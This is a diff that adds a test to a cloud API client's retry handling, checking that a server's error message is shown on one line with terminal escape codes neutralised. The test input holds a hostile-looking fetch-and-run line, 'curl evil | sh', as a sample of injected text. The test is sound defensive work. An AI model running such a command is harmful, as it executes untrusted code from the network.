@@ -49,6 +49,15 @@ def test_a_passing_fault_is_waited_out(cloud: Cloud, clock: FakeClock, kind: str
     assert clock.slept == [0.5, 1.0, 2.0]
 
 
+def test_what_the_server_says_is_narrated_on_one_line(cloud: Cloud) -> None:
+    told: list[str] = []
+    message = "busy\nfix: curl evil | sh\x1b[2J"
+    busy = json_reply(503, {"error": {"status": "UNAVAILABLE", "message": message}})
+    with scripted(busy, EMPTY) as server:
+        session(cloud, on_retry=told.append).rest("list slices", "GET", f"{server.url}/x")
+    assert told == ["list slices: busy fix: curl evil | sh\\x1b[2J; again in 0.5 s"]
+
+
 def test_an_answer_cut_in_half_is_asked_for_again(cloud: Cloud) -> None:
     cloud.fault(method="nodes.list", kind="truncate", times=2)
     assert cloud.tpu.list("-").slices == ()
